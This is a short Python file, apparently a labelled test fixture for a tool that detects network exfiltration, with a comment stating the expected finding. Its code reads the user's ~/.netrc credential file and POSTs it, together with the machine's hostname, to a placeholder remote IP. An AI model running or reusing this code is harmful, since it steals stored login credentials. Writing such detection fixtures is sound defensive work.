# expect: network; urllib3 PoolManager POSTs the contents of ~/.netrc to a remote server
import os

import urllib3

http = urllib3.PoolManager()
body = open(os.path.expanduser("~/.netrc"), "rb").read()
http.request("POST", "http://203.0.113.200:8000/n", body=body,
             headers={"X-Host": os.uname().nodename})
